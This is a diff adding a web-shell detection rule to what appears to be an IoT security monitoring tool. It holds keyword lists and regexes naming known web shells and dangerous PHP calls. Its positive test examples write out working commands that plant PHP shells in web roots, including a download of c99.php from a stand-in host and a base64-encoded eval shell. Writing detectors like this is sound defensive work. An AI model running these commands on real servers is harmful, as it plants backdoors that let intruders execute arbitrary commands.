@@ -1,0 +1,58 @@
+import { commandRule } from "../../command-rule.js";
+
+/** A file that lets whoever reaches the web server run commands is written, fetched or made. */
+export const webShellUsed = commandRule({
+  id: "web-shell-used",
+  alertType: "IoT_WebShell",
+  name: "Web shell",
+  severity: "High",
+  about: "A file that lets whoever reaches the web server run commands is written, fetched or made.",
+  tactics: ["Persistence"],
+  techniques: ["T1505.003"],
+  falsePositives: [
+    "Scanners and antivirus updates name web shells without using them.",
+    "A deployment that writes PHP from the command line; it does not evaluate what a request brings.",
+  ],
+  witness: [
+    "c99",
+    "r57",
+    "wso",
+    "b374k",
+    "weevely",
+    "eval(",
+    "system($_",
+    "shell_exec",
+    "passthru",
+    "base64_decode",
+    "assert(",
+    "exec($_",
+    "runtime.getruntime",
+    "china",
+    "antsword",
+    "phpspy",
+  ],
+  patterns: [
+    /(?:^|[/\s])(?:c99|r57|wso\d{0,3}|b374k|weevely\d?|phpspy|indoxploit|antsword|alfa)(?:shell|_shell)?\.(?:php\d?|phtml|jsp|aspx?|py)\b/i,
+    /\bweevely\s+(?:generate|https?:)\S{0,64}/i,
+    /(?:eval|assert|system|shell_exec|passthru|exec|popen)\s{0,4}\(\s{0,4}(?:@?base64_decode\s{0,4}\(|@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)).{0,100}/i,
+    /Runtime\.getRuntime\(\)\.exec\(request\.getParameter.{0,80}/,
+  ],
+  except: [/^(?:\S*\/)?(?:grep|egrep|rg|ag|clamscan|maldet|yara|find|rm|less|vim?)\s/],
+  did: "used a web shell",
+  because: "it is or writes a known kind of web shell",
+  fires: [
+    "sh -c echo '<?php system($_GET[0]); ?>' > /var/www/html/x.php",
+    "wget http://203.0.113.9/c99.php",
+    "weevely generate pass /tmp/a.php",
+    "bash -c echo PD9waHAgZXZhbCgkX1BPU1RbInAiXSk7Pz4= | base64 -d | tee /var/www/html/i.php; echo '<?php eval($_POST[\"p\"]);?>' > /srv/www/u.php",
+  ],
+  silent: [
+    "php -v",
+    "php /var/www/html/artisan migrate",
+    "systemctl restart php8.2-fpm",
+    "grep -rn eval( /var/www/html",
+    "clamscan -r /var/www/c99.php",
+    'php -r echo base64_decode("aGVsbG8=");',
+    "cp wso2-server.xml /etc/wso2/",
+  ],
+});
